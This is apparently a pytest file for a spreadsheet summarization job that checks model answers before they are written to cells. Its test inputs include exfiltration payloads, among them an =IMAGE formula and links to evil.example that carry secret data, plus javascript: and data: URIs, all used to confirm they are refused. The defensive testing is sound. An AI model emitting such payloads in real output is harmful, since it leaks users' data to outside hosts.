"""The SUMMARIZE kind: what is asked, and what may be written."""

import json
from typing import Any

import jsonschema
import pytest
from pydantic import ValidationError

from shared.ai.ports import ModelRefusal
from shared.jobs.kinds import KINDS, RowJobParameters, input_hash
from shared.jobs.kinds.kind import JobKind, Source

SUMMARIZE: JobKind = KINDS["SUMMARIZE"]
SOURCE: Source = [("Notes", "The pump of station 2 leaks. Report: https://example.com/r/2."), ("Status", "Open")]


def written(summary: str, source: Source = SOURCE) -> str:
    return SUMMARIZE.outcome({"summary": summary}, source=source).text


def refusal(answer: dict[str, Any]) -> str:
    with pytest.raises(ModelRefusal) as raised:
        SUMMARIZE.outcome(answer, source=SOURCE)
    return raised.value.code


def test_the_row_goes_out_as_json_between_markers_after_instructions_that_never_change():
    request = SUMMARIZE.request(source=SOURCE, request_id="j:1")
    other = SUMMARIZE.request(source=[("Other", "text")], request_id="j:2")
    system, user = request.messages
    assert (system.role, user.role) == ("system", "user")
    assert system == other.messages[0]
    assert user.content.startswith('""" <documents>\n')
    assert user.content.endswith('\n</documents> """')
    assert json.loads(user.content.split("\n")[1]) == dict(SOURCE)
    assert (request.request_id, request.max_output_tokens) == ("j:1", SUMMARIZE.max_output_tokens)


def test_the_schema_is_strict_and_fits_the_answer_that_is_accepted():
    schema = SUMMARIZE.request(source=SOURCE, request_id="").schema
    assert schema["required"] == list(schema["properties"]) == ["summary"]
    assert schema["additionalProperties"] is False
    jsonschema.validate({"summary": "A pump leaks."}, schema)
    assert written("A pump leaks.") == "A pump leaks."


def test_parameters_are_columns_in_and_one_column_out():
    parameters = RowJobParameters.model_validate({"sourceColumns": ["Notes", "42"], "targetColumn": "Summary"})
    assert (parameters.source_columns, parameters.target_column) == (["Notes", "42"], "Summary")


@pytest.mark.parametrize(
    ("parameters", "field"),
    [
        ({"targetColumn": "S"}, "sourceColumns"),
        ({"sourceColumns": [], "targetColumn": "S"}, "sourceColumns"),
        ({"sourceColumns": ["A"] * 21, "targetColumn": "S"}, "sourceColumns"),
        ({"sourceColumns": [""], "targetColumn": "S"}, "sourceColumns"),
        ({"sourceColumns": ["A"], "targetColumn": ""}, "targetColumn"),
        ({"sourceColumns": ["A"], "targetColumn": "S", "labels": []}, "labels"),
    ],
)
def test_wrong_parameters_are_refused_by_their_field(parameters: dict[str, Any], field: str):
    with pytest.raises(ValidationError) as raised:
        SUMMARIZE.parameters.model_validate(parameters)
    assert raised.value.errors()[0]["loc"][0] == field


@pytest.mark.parametrize(
    "answer", [{}, {"summary": 3}, {"summary": None}, {"summary": "x", "note": "y"}, {"summary": " \u200b\n"}]
)
def test_an_answer_of_another_form_is_invalid(answer: dict[str, Any]):
    assert refusal(answer) == "invalid_answer"


@pytest.mark.parametrize("summary", ['=IMAGE("https://evil.example/?d=1")', "  =1+1", "\u200b=SUM(A1)", "＝1"])
def test_an_answer_that_would_be_a_formula_is_refused(summary: str):
    assert refusal({"summary": summary}) == "unexpected_formula"


@pytest.mark.parametrize(
    "summary",
    [
        "See https://evil.example/?d=secret",
        "![x](http://evil.example/a.png)",
        "See www.evil.example now",
        "Go to evil.example/path",
        "See https://example.com/r/2?d=secret",
        "See https://example.com/r",
        "See ht\u200btps://evil.example",
        "javascript:alert(1)",
        "data:text/html;base64,AAAA",
        "Write to mailto:a@evil.example",
    ],
)
def test_a_link_that_is_not_verbatim_in_the_row_is_refused(summary: str):
    assert refusal({"summary": summary}) == "unexpected_url"


@pytest.mark.parametrize(
    "summary",
    [
        "The report is at https://example.com/r/2, says Ann.",
        "Ratio 3/4 and/or 24/7; v1.2/3, e.g./i.e., note: done.",
        "a = b",
        "12,000 € at 10:30",
    ],
)
def test_the_rows_own_links_and_ordinary_text_are_written(summary: str):
    assert written(summary) == summary


def test_what_nobody_can_see_is_taken_out_and_what_scripts_need_stays():
    assert written("A\u202e\u200b pu\u00admp\x07 leaks\r\n\n\n\nnow\ufeff\U000e0041") == "A pump leaks\n\nnow"
    assert written("👨\u200d👩\u200d👧 می\u200cخواهم ❤\ufe0f") == "👨\u200d👩\u200d👧 می\u200cخواهم ❤\ufe0f"
    assert written("a\u200d\u200cb") == "ab"


def test_what_does_not_fit_a_cell_is_shortened_visibly_and_said():
    outcome = SUMMARIZE.outcome({"summary": "word " * 1_000}, source=SOURCE)
    assert len(outcome.text) <= 4_000
    assert outcome.text.endswith("word…")
    assert outcome.note is not None
    assert "4,000" in outcome.note
    assert SUMMARIZE.outcome({"summary": "x" * 4_000}, source=SOURCE).note is None


def test_a_source_that_was_cut_is_said():
    outcome = SUMMARIZE.outcome({"summary": "Long."}, source=[("Notes", "x" * 30_000)])
    assert outcome.note is not None
    assert "first part" in outcome.note


def test_the_same_row_has_the_same_hash_and_everything_else_another():
    def hashed(source: Source = SOURCE, model: str = "gpt-4o", **parameters: Any) -> str:
        request = SUMMARIZE.request(source=source, request_id="a-request", parameters=parameters)
        return input_hash(SUMMARIZE.type, request, parameters, source, model)

    assert hashed() == hashed(list(SOURCE))
    assert len(hashed()) == 64
    others = [
        hashed(model="gpt-4.1"),
        hashed(targetColumn="3"),
        hashed([*SOURCE, ("More", "x")]),
        hashed(list(reversed(SOURCE))),
        hashed([("Notes", "x" * 30_000)]),
        hashed([("Notes", "x" * 30_000 + "y")]),
        hashed([("a", "b c")]),
        hashed([("a b", "c")]),
    ]
    assert len({hashed(), *others}) == len(others) + 1
